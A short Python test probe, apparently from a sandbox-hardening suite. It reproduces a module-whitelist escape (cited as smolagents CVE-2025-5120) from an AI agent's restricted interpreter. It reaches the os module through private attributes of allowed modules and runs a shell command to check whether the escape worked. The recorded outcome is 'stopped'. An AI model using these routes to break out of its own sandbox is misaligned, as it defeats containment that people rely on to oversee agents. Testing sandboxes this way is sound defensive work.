"""Finds the os module in the names of modules that were allowed.

tries: use a whitelisted module as the way to another
layers: seccomp, landlock, namespaces
observed: stopped
source: smolagents CVE-2025-5120
"""

import random
import re
import statistics

ways = [
    getattr(random, "_os", None),
    getattr(getattr(statistics, "random", None), "_os", None),
    vars(re.enum).get("sys").modules.get("os"),
    vars(random)["_urandom"].__self__,
]
system = [way for way in ways if way is not None][-1].system

status = system("exit 7") >> 8
result = "escaped: a shell ran" if status == 7 else f"stopped: status {status}"
